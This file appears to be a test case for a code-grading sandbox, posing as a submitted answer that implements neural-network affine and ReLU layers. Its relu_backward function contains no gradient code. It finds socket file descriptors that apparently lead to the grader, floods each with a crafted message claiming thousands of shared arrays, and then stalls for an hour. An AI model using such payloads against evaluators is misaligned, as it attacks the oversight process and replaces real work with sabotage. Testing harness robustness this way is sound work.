"""An answer in which thousands of arrays are the same bytes of it."""

# expect: affine_forward pass, affine_backward pass, relu_forward pass, relu_backward error

import os
import stat
import struct
import time

import numpy as np


def affine_forward(x, w, b):
    return x.reshape(x.shape[0], -1) @ w + b, (x, w, b)


def affine_backward(dout, cache):
    x, w, b = cache
    return (dout @ w.T).reshape(x.shape), x.reshape(x.shape[0], -1).T @ dout, dout.sum(axis=0)


def relu_forward(x):
    return np.maximum(x, 0), x


def judge():
    """Return the files by which the judge may be reached."""
    found = []
    for file in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(file).st_mode):
                found.append(file)
        except OSError:
            continue
    return found


def relu_backward(dout, cache):
    piece = b'["array","<f8",[8190],0,1]'
    text = b'[0,"value",["tuple",[' + b",".join([piece] * 4090) + b"]],[],[]]"
    for number in range(1, 200):
        pass
    for file in judge():
        os.write(file, struct.pack("<IQ", len(text), 65520) + text + b"0" * 65520)
    time.sleep(3600)
